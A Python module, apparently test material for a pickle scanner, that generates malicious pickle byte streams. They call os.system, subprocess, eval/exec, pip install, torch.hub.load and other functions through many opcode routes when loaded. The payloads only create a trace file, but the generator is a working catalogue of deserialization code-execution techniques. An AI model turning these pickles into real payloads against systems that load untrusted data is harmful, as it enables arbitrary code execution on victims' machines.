"""Pickles that would run code: every way to call something, in every protocol."""

import itertools
import pickle

CALLS = (
    ("os", "system", ("touch {trace}",)),
    ("posix", "system", ("touch {trace}",)),
    ("subprocess", "Popen", (["touch", "{trace}"],)),
    ("subprocess", "getoutput", ("touch {trace}",)),
    ("builtins", "eval", ("__import__('os').mkdir('{trace}')",)),
    ("builtins", "exec", ("__import__('os').mkdir('{trace}')",)),
    ("builtins", "open", ("{trace}", "w")),
    ("__builtin__", "eval", ("__import__('os').mkdir('{trace}')",)),
    ("os", "mkdir", ("{trace}",)),
    ("pathlib", "Path.touch", ("{trace}",)),
    ("shutil", "copy", ("/etc/hostname", "{trace}")),
    ("runpy", "run_path", ("{trace}.py",)),
    ("importlib", "import_module", ("antigravity",)),
    ("builtins", "__import__", ("antigravity",)),
    ("torch", "hub.load", ("a/b", "c")),
    ("torch.storage", "_load_from_bytes", (b"",)),
    ("pip", "main", (["install", "x"],)),
)
ENTRANCES = ("reduce", "nested", "memo", "inst", "obj", "newobj", "newobj_ex", "build", "setitem",
             "append", "stack_global", "getattr", "as_builder")  # fmt: skip


def programs(trace):
    """Yield a name and a pickle for every call and every entrance."""
    for (module, name, arguments), entrance in itertools.product(CALLS, ENTRANCES):
        given = tuple(
            [part.format(trace=trace) for part in one]
            if isinstance(one, list)
            else one.format(trace=trace)
            if isinstance(one, str)
            else one
            for one in arguments
        )
        yield f"{module}.{name} by {entrance}", b"\x80\x04" + body(module, name, given, entrance)


def body(module, name, arguments, entrance):
    """Return opcodes that call module.name(*arguments) when a pickle is loaded."""
    named = f"c{module}\n{name}\n".encode()
    parts = b"".join(dumped(one) for one in arguments)
    given = b"(" + parts + b"t"
    call = named + given + b"R"
    return {
        "reduce": call,
        "nested": named + b"(" + call + b"tR",
        "memo": named + b"q\x000h\x00" + given + b"R",
        "inst": b"(" + parts + f"i{module}\n{name}\n".encode(),
        "obj": b"(" + named + parts + b"o",
        "newobj": named + given + b"\x81",
        "newobj_ex": named + given + b"}\x92",
        "build": call + named + given + b"R" + b"}" + dumped("__setstate__") + named + b"s" + b"b",
        "setitem": b"}" + dumped("key") + call + b"s",
        "append": b"](" + call + b"e",
        "stack_global": dumped(module) + dumped(name) + b"\x93" + given + b"R",
        "getattr": b"cbuiltins\ngetattr\n(" + f"c{module}\n__dict__\n".encode() + dumped(name)
        + b"tR" + given + b"R",
        "as_builder": b"ccollections\nOrderedDict\n(" + b"](" + call + dumped("x") + b"e" + b"tR",
    }[entrance] + b"."  # fmt: skip


def dumped(value):
    """Return the opcodes of a plain value."""
    return pickle.dumps(value, 2)[2:-1]
